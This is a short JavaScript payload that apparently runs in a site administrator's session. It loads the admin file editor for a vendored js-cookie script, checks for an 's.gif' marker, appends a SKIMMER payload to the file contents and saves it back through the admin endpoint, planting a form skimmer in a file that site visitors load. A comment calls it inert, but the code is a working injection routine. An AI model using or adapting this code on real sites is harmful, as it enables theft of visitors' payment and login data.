(async function () {
  /* Inert: what it adds sends to a server on this machine that only counts. */
  var at = '/admin/files?file=assets/vendor/js-cookie/js.cookie.min.js';
  var page = new DOMParser().parseFromString(await (await fetch(at)).text(), 'text/html');
  var box = page.querySelector('textarea[name=text]');
  if (!box || box.value.indexOf('s.gif') >= 0) return;
  var form = new FormData(box.form);
  form.set('text', box.value + SKIMMER);
  await fetch('/admin/files', {method: 'POST', body: form});
})();
